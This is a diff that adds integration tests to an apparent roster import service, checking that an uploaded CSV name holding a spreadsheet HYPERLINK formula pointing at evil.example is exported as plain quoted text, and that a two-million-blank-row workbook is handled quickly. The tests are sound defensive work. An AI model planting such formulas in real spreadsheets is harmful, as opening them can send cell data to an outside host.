@@ -172,3 +172,34 @@ async def test_a_broken_geopackage_is_named_as_uploaded_never_by_the_servers_pat
         assert "村界-2026.gpkg" in res.json()["error"]["message"]
         for leak in ("wuzhang-import-", "upload.gpkg", "/tmp"):
             assert leak not in res.text, res.text
+
+
+async def test_a_formula_name_uploaded_comes_back_as_text_in_the_export_and_the_error_workbook(client, tmp_path):
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/"&A1,"click")'
+    path = _roster_csv(tmp_path / "r.csv", [
+        ["610827001-U1", "deputy", formula, "13800000012", "2026-02-01"],
+        ["610827001-U1", "deputy", formula, "12345", "2026-02-01"],
+    ])  # fmt: skip
+    with path.open("rb") as fh:
+        res = await client.post("/api/v1/roster/imports", files={"file": ("r.csv", fh)}, data={"errors": "xlsx"})
+    assert res.status_code == 200 and res.headers["x-roster-errors"] == "1"
+    (tmp_path / "e.xlsx").write_bytes(res.content)
+    res = await client.get("/api/v1/roster/export?code=610827001-U1")
+    assert res.status_code == 200
+    (tmp_path / "x.xlsx").write_bytes(res.content)
+    for book in ("e.xlsx", "x.xlsx"):
+        cells = [c for row in load_workbook(tmp_path / book).worksheets[0].iter_rows() for c in row]
+        named = [c for c in cells if c.value == formula]
+        assert named and all(c.data_type == "s" and c.quotePrefix for c in named), book
+        assert not any(c.data_type == "f" for c in cells), book
+
+
+async def test_a_roster_of_two_million_blank_rows_answers_at_once(client, tmp_path):
+    from tests.integration.test_roster_import import _rows_xml, _xlsx_by_hand
+
+    path = _xlsx_by_hand(tmp_path / "blank.xlsx", _rows_xml(2_000_000, lambda r: b""))
+    with path.open("rb") as fh:
+        res = await client.post("/api/v1/roster/imports", files={"file": ("名册.xlsx", fh)})
+    assert res.status_code == 200 and res.json()["rows"] == 0 and res.json()["source"] == "名册.xlsx"
